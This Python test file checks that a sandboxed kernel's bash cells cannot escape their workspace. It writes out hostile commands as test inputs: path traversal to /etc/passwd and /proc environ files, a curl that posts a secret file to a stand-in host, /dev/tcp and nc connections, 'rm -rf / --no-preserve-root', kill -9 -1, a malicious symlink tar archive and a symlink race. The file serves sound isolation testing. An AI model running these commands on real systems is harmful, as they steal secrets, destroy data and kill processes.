"""Scripts in a shell that look for what is not theirs, and find nothing."""

from __future__ import annotations

import json
import os
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from .conftest import running_kernel
from .driver import Kernel

SECRET = "the-secret-of-the-host"


class Place:
    """A kernel whose workspace lies beside a file that its cells must never see or change."""

    def __init__(self, kernel: Kernel, folder: Path) -> None:
        self.kernel = kernel
        self.outside = folder / "outside"
        self.workspace = folder / "sandbox" / "workspace"
        self.read_only = folder / "read"

    def run(self, code: str) -> str:
        ran = self.kernel.run(f"%%bash\n{code}")
        return ran.text() + ran.text("stderr") + (ran.error if ran.status == "error" else "")


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    folder = tmp_path_factory.mktemp("place")
    for name in ("outside", "read"):
        (folder / name).mkdir()
        (folder / name / "secret").write_text(SECRET if name == "outside" else "may be read")
    environment = {
        "KERNELMCP_SANDBOX_DIRECTORY": str(folder / "sandbox"),
        "KERNELMCP_VOLUMES": json.dumps([{"name": "r", "path": str(folder / "read"), "mode": "ro"}]),
        "A_VARIABLE_OF_THE_HOST": SECRET,
    }
    with running_kernel(**environment) as kernel:
        yield Place(kernel, folder)


PATHS = [
    "/etc/passwd",
    "/etc/hostname",
    "/proc/self/environ",
    "/proc/1/environ",
    "/proc/self/maps",
    "/proc/self/mem",
    "/proc/self/root/etc/passwd",
    "/proc/self/fd/3",
    "/dev/fd/3",
    "/dev/mem",
    "/dev/tty",
    "/sys/kernel/version",
    "../../../../../../etc/passwd",
    "/workspace/../../etc/passwd",
    "/tmp/../etc/passwd",
    "/volumes/r/../../../etc/passwd",
    "/workspace/./..//../etc/./passwd",
    "~root/.bashrc",
    "file:///etc/passwd",
]
# Every builtin that opens a file by its name, or does something with one.
READERS = [
    "cat {}",
    "cat < {}",
    "source {}",
    ". {}",
    "mapfile a < {}; echo ${a[@]}",
    "read -r x < {}; echo $x",
    "exec 9< {}; cat <&9",
    "head -1 {}",
    "tail -1 {}",
    "grep . {}",
    "grep -r . {}",
    "sed p {}",
    "awk 1 {}",
    "sort {}",
    "cut -c1- {}",
    "wc -l {}",
    "od -c {}",
    "xxd {}",
    "base64 {}",
    "md5sum {}",
    "diff {} /dev/null",
    "cmp {} /dev/null",
    "tac {}",
    "rev {}",
    "nl {}",
    "paste {}",
    "join {} {}",
    "comm {} /dev/null",
    "fold {}",
    "strings {}",
    "jq -R . {}",
    "tee < {}",
    "cp {} got; cat got",
    "mv {} got; cat got",
    "ln {} got; cat got",
    "ln -s {} got; cat got",
    "install {} got; cat got",
    "dd if={}",
    "tar cf t.tar {} && tar xOf t.tar",
    "gzip -c {} | zcat",
    "zip z.zip {} && unzip -p z.zip",
    "split {} part; cat part*",
    "bash {}",
    "xargs -a {} echo",
    "find {} -type f",
    "ls {}/*",
    "stat {}",
    "file {}",
    "curl file://{}",
    "curl -d @{} http://example.org",
    "echo $(< {})",
    "while read l; do echo $l; done < {}",
    "printf '%s' \"$(cat {})\"",
    "test -r {} && echo may-read",
    "[ -e {} ] && echo may-see",
    "column {}",
    "shuf {}",
    "uniq {}",
    "tr a a < {}",
    "csv {}",
    "yq . {}",
    "rg . {}",
    "patch x {}",
    "iconv {}",
    "envsubst < {}",
    "history -c; history -r {}; history | grep -v history",
    "mapfile -t m < {}; echo ${m[0]}",
    "readarray n < {}; echo ${n[0]}",
    "exec < {}; cat",
    "cat <(cat {})",
    "sha256sum -c {}",
    "truncate -s 0 {}",
    "touch {}",
    "echo x > {}",
    "echo x >> {}",
    "rm -f {}",
    "chmod 777 {}",
    "mkdir {}/new",
    "tee {} <<< x",
    "sed -i s/a/b/ {}",
]


@pytest.mark.parametrize("path", PATHS)
def test_other_paths_lead_nowhere(place: Place, path: str) -> None:
    shown = place.run(f"cat {path}; head -c 100 {path}; ls -la {path}; echo x > {path}")
    assert "root:" not in shown
    assert SECRET not in shown
    assert "No such file" in shown


@pytest.mark.parametrize("command", READERS)
def test_no_command_opens_a_file_outside(place: Place, command: str) -> None:
    target = place.outside / "secret"
    shown = "".join(
        place.run(f"rm -f got; {command.replace('{}', str(path))}")
        for path in (target, f"../../{target}", "/etc/passwd")
    )
    assert SECRET not in shown
    assert "root:" not in shown
    assert "may-" not in shown
    assert target.read_text() == SECRET
    assert os.listdir(place.outside) == ["secret"]


@pytest.mark.parametrize("command", READERS)
def test_no_command_follows_a_link_that_somebody_else_made(place: Place, command: str) -> None:
    """A guest can make none; the owner of a folder can. What it leads to, the operating system refuses."""
    for name, target in (("to-file", place.outside / "secret"), ("to-folder", place.outside)):
        (place.workspace / name).unlink(missing_ok=True)
        (place.workspace / name).symlink_to(target)
    shown = "".join(
        place.run(f"cd /workspace; rm -f got; {command.replace('{}', str(path))}")
        for path in ("to-file", "to-folder/secret")
    )
    assert SECRET not in shown
    assert (place.outside / "secret").read_text() == SECRET
    assert os.listdir(place.outside) == ["secret"]


def test_no_link_pipe_or_device_is_made(place: Place) -> None:
    place.run(
        "ln -s /etc/passwd l1; ln -sf ../.. l2; ln /etc/passwd l3; mkfifo p; mknod d c 1 3; cp -a /etc e;"
        " tar cf - / | tar xf -"
    )
    place.kernel.run(
        "import os\n"
        "for make in (lambda: os.symlink('/etc', 'l4'), lambda: os.mkfifo('p2')):\n"
        "    try: make()\n"
        "    except OSError: pass"
    )
    kinds = [path for path in place.workspace.rglob("*") if not (path.is_file() or path.is_dir())]
    assert [path for path in kinds if path.name not in ("to-file", "to-folder")] == []


def test_links_in_an_archive_are_not_made(place: Place) -> None:
    place.kernel.run(
        "import tarfile, io\n"
        "with tarfile.open('evil.tar', 'w') as tar:\n"
        "    for name, link in (('out', '/etc'), ('up', '../../outside')):\n"
        "        info = tarfile.TarInfo(name); info.type = tarfile.SYMTYPE; info.linkname = link; tar.addfile(info)\n"
        "    for name in ('out/passwd', 'up/secret', '../../outside/secret', '/tmp/../../outside/x'):\n"
        "        info = tarfile.TarInfo(name); info.size = 4; tar.addfile(info, io.BytesIO(b'evil'))\n"
    )
    place.run("mkdir -p x; tar xf evil.tar -C x; tar xf evil.tar -C /; tar xf evil.tar -C ../..")
    assert (place.outside / "secret").read_text() == SECRET
    assert os.listdir(place.outside) == ["secret"]


def test_the_environment_and_processes_are_not_the_hosts(place: Place) -> None:
    shown = place.run(
        "env; export; set; printenv; ps aux; id; hostname; cat /proc/*/environ; declare -p; ls /proc; mount; df"
    )
    assert SECRET not in shown
    assert str(place.workspace) not in shown
    assert str(place.kernel.process.pid) not in shown.split()


def test_no_network(place: Place) -> None:
    shown = place.run(
        "exec 5<>/dev/tcp/127.0.0.1/22 && echo opened; cat < /dev/tcp/127.0.0.1/22 && echo read;"
        " echo x > /dev/udp/127.0.0.1/53 && echo sent; nc 127.0.0.1 22 && echo nc;"
        " http http://127.0.0.1 && echo http; ping -c1 127.0.0.1 && echo ping"
    )
    assert not {"opened", "read", "sent", "nc", "http", "ping"} & set(shown.split("\n"))


def test_processes_are_not_touched(place: Place) -> None:
    pids = [place.kernel.process.pid, *(guest.pid for guest in place.kernel.guests())]
    for pid in (1, os.getpid(), *pids):
        place.run(
            f"kill -9 {pid}; kill -STOP {pid}; kill -9 -1; kill -9 -{pid}; kill %1; pkill -9 python; killall node"
        )
    assert [place.kernel.process.pid, *(guest.pid for guest in place.kernel.guests())] == pids
    assert place.run(
        "ulimit -c unlimited; ulimit -n 100000; nohup true; disown; setsid true; suspend; echo alive"
    ).startswith("alive\n")


def test_read_only_volumes_stay_as_they_are(place: Place) -> None:
    shown = place.run(
        "cd /volumes/r; cat secret; echo x > secret; echo x >> secret; rm -rf secret; mv secret x; cp secret y;"
        " touch z; mkdir d; chmod 777 secret; sed -i s/m/x/ secret; truncate -s 0 secret; tee secret <<< x;"
        " dd of=secret <<< x; rm -rf /volumes/r; rm -rf /volumes; mv /volumes/r /workspace/;"
        " ln secret /workspace/hard; exec 7> secret"
    )
    assert shown.startswith("may be read")
    assert os.listdir(place.read_only) == ["secret"]
    assert (place.read_only / "secret").read_text() == "may be read"


def test_what_holds_the_session_itself_stays(place: Place) -> None:
    place.run(
        "rm -rf /* /workspace /tmp / --no-preserve-root; rmdir /workspace; mv /workspace /tmp/w; mv /tmp /workspace/t"
    )
    assert place.run("cd /workspace; echo x > again; cat again; ls -d /tmp /workspace") == "x\n/tmp\n/workspace\n"
    assert place.outside.exists()


def test_a_link_that_is_raced_leads_nowhere(place: Place) -> None:
    """Somebody outside swaps a folder for a link and back while the shell writes and reads through it."""
    stop = threading.Event()
    swapped, held = place.workspace / "swapped", place.workspace / "held"

    def swap() -> None:
        while not stop.is_set():
            swapped.mkdir(exist_ok=True)
            try:
                swapped.rename(held)
                swapped.symlink_to(place.outside)
                swapped.unlink()
                held.rename(swapped)
            except OSError:
                continue

    thread = threading.Thread(target=swap)
    thread.start()
    try:
        shown = place.run(
            "cd /workspace; for ((i = 0; i < 3000; i++)); do echo evil > swapped/secret; cat swapped/secret;"
            " rm -rf swapped/secret; echo more >> swapped/new; mv swapped/secret swapped/x; done 2> /dev/null"
        )
    finally:
        stop.set()
        thread.join()
    assert SECRET not in shown
    assert (place.outside / "secret").read_text() == SECRET
    assert os.listdir(place.outside) == ["secret"]
